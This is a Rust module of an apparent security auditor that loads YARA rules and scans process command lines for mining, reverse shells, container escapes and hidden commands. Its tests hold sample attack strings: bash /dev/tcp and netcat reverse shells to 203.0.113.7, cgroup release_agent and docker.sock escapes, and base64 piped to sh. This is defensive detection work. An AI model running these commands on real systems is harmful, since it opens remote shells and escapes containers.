// SPDX-License-Identifier: Apache-2.0

//! YARA rules: those of this program, and an operator's own.

use std::{
	fs, io,
	path::{Path, PathBuf},
	time::Duration,
};

use yara_x::{Compiler, Scanner};

/// The rules that come with this program.
const OWN: [(&str, &str); 2] = [
	("mining.yar", include_str!("../../rules/mining.yar")),
	("attacks.yar", include_str!("../../rules/attacks.yar")),
];
/// How long the rules may take for one piece.
const PIECE_TIME: Duration = Duration::from_secs(30);

/// Why rules cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
	/// A folder or file of rules cannot be read.
	#[error("{path}: {source}; name a folder of .yar files in `auditor.rules`, or leave it empty")]
	Unreadable {
		/// Which.
		path: PathBuf,
		/// What the system says.
		source: io::Error,
	},
	/// A rule is wrong. The message shows the place.
	#[error("{path} has a rule that cannot be used: {problem}")]
	Wrong {
		/// The file.
		path: PathBuf,
		/// Where and what.
		problem: String,
	},
}

/// YARA rules, compiled.
pub struct Rules(yara_x::Rules);

impl Rules {
	/// The program's own rules, and those of the `.yar` files in a folder.
	pub fn load(folder: Option<&Path>) -> Result<Self, RulesError> {
		let mut compiler = Compiler::new();
		for (name, text) in OWN {
			add(&mut compiler, Path::new(name), text)?;
		}
		for path in folder.map(files).transpose()?.unwrap_or_default() {
			let text = fs::read_to_string(&path)
				.map_err(|source| RulesError::Unreadable { path: path.clone(), source })?;
			add(&mut compiler, &path, &text)?;
		}
		Ok(Self(compiler.build()))
	}

	/// The names of the rules that match a text, such as the command line of a process.
	pub fn matching(&self, text: &[u8]) -> Result<Vec<String>, yara_x::ScanError> {
		scan(&mut self.scanner(), text)
	}

	/// What a rule is about, in its own words.
	pub fn description(&self, name: &str) -> Option<String> {
		let rule = self.0.iter().find(|rule| rule.identifier() == name)?;
		let mut meta = rule.metadata();
		meta.find_map(|(key, value)| match value {
			yara_x::MetaValue::String(text) if key == "description" => Some(text.to_string()),
			_ => None,
		})
	}

	/// What applies them.
	pub(super) fn scanner(&self) -> Scanner<'_> {
		let mut scanner = Scanner::new(&self.0);
		scanner.set_timeout(PIECE_TIME);
		scanner
	}
}

fn add(compiler: &mut Compiler, path: &Path, text: &str) -> Result<(), RulesError> {
	let added = compiler.add_source(text);
	let wrong = |error: yara_x::errors::CompileError| RulesError::Wrong {
		path: path.into(),
		problem: error.to_string(),
	};
	added.map(|_| ()).map_err(wrong)
}

/// The `.yar` files of a folder, in their order.
fn files(folder: &Path) -> Result<Vec<PathBuf>, RulesError> {
	let unreadable = |source| RulesError::Unreadable { path: folder.into(), source };
	let mut files = Vec::new();
	for entry in fs::read_dir(folder).map_err(unreadable)? {
		let path = entry.map_err(unreadable)?.path();
		if path.extension().is_some_and(|extension| extension == "yar") {
			files.push(path);
		}
	}
	files.sort();
	Ok(files)
}

/// The names of the rules that match.
pub(super) fn scan(scanner: &mut Scanner, bytes: &[u8]) -> Result<Vec<String>, yara_x::ScanError> {
	let results = scanner.scan(bytes)?;
	Ok(results.matching_rules().map(|rule| rule.identifier().to_string()).collect())
}

#[cfg(test)]
mod tests {
	use super::*;

	/// What looks like a wallet, and is nobody's.
	fn monero() -> String {
		format!("48{}", "e".repeat(93))
	}

	fn rules() -> Rules {
		Rules::load(None).unwrap()
	}

	#[test]
	fn each_rule_matches_what_it_is_for_and_not_what_looks_like_it() {
		let config =
			format!(r#"{{"url": "stratum+tcp://pool.example.org:3333", "user": "{}"}}"#, monero());
		let monero = monero();
		let wallet = "0x52908400098527886E0F7030069857D2E4169EE7";
		let examples: [(&str, &[&str], &[&str]); 8] = [
			(
				"mining_pool_and_wallet",
				&[
					&config,
					"POOL=stratum+ssl://eth.example.com:5555 WALLET=0x52908400098527886E0F7030069857D2E4169EE7",
				],
				&[
					"Pools are named like stratum+tcp://HOST:PORT in this tool.",
					"The contract is at 0x52908400098527886E0F7030069857D2E4169EE7.",
					"see the stratum of the dataset, tcp port 3333, user: \"somebody else\"",
				],
			),
			(
				"wallet_at_a_pool_port",
				&[
					&format!("pool.example.org:14444 {monero}"),
					&format!("{wallet}.worker1@eth.example.org:4444"),
				],
				&[
					&format!("pool.example.org:14444\n\n{monero}"),
					&format!("https://explorer.example.org:443/address/{wallet}"),
					"localhost:3333 is where the notebook listens",
				],
			),
			(
				"stratum_protocol",
				&[
					r#"{"method":"mining.subscribe"} mining.authorize mining.notify"#,
					r#"{"method":"login"} {"method":"job"} keepalived"#,
				],
				&["data mining.subscribe to our letter", r#"{"method":"login"} {"method":"job"}"#],
			),
			(
				"known_miner",
				&["XMRig 6.21 donate-level 1 RandomX", "ethminer --farm-recheck 200"],
				&["we do not allow xmrig here", "RandomX is a proof of work; donate-level"],
			),
			(
				"miner_command_line",
				&[
					"/tmp/xmrig -o pool.example.org:443 -k",
					r#""Cmd":["./t-rex","-a","kawpow","--url","pool"]"#,
					"nice ccminer --algo=x16r",
				],
				&["python train.py --algo ppo", "grep -r xmrig .", "minerva --url https://example.org"],
			),
			(
				"reverse_shell",
				&[
					"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
					"nc 203.0.113.7 4444 -e /bin/sh",
					"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 9001",
					"s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
				],
				&[
					"exec 3<>/dev/tcp/localhost/80",
					"nc -z localhost 80",
					"s = socket.socket(); s.connect((host, 1)); s.send(b'x')",
				],
			),
			(
				"container_escape",
				&[
					"mount -t cgroup -o rdma cgroup /x; echo 1 > /x/notify_on_release; echo /c > /x/release_agent",
					r#"curl --unix-socket /var/run/docker.sock http://x/containers/create -d '{"Privileged": true}'"#,
					"nsenter --target 1 --mount --uts sh",
				],
				&["/var/run/docker.sock is where Docker listens", "nsenter --target 4711 --net ip a"],
			),
			(
				"hidden_command",
				&["echo aGk= | base64 -d | sh", "base64 --decode payload | bash"],
				&["base64 -d key.b64 > key", "echo aGk= | base64 -d | sha256sum"],
			),
		];
		let rules = rules();
		for (name, guilty, innocent) in examples {
			for text in guilty {
				let found = rules.matching(text.as_bytes()).unwrap();
				assert!(found.iter().any(|it| it == name), "{name} and not {found:?} in: {text}");
			}
			for text in innocent {
				assert_eq!(rules.matching(text.as_bytes()).unwrap(), [""; 0], "{text}");
			}
			assert!(rules.description(name).is_some_and(|text| !text.is_empty()), "{name}");
		}
		assert_eq!(rules.0.iter().count(), 8, "each rule has its examples");
	}

	#[test]
	fn an_operators_own_rules_are_used_and_wrong_ones_are_named() {
		let folder = tempfile::tempdir().unwrap();
		let write = |text: &str| fs::write(folder.path().join("own.yar"), text).unwrap();
		write(r#"rule mine { strings: $a = "forbidden here" condition: $a }"#);
		fs::write(folder.path().join("notes.txt"), "no rules").unwrap();
		let rules = Rules::load(Some(folder.path())).unwrap();
		assert_eq!(rules.matching(b"this is forbidden here").unwrap(), ["mine"]);
		write("rule mine { condition: $a }");
		let error = Rules::load(Some(folder.path())).err().unwrap().to_string();
		assert!(error.contains("own.yar"), "{error}");
		let missing = Rules::load(Some(&folder.path().join("none"))).err().unwrap().to_string();
		assert!(missing.contains("auditor.rules"), "{missing}");
	}
}
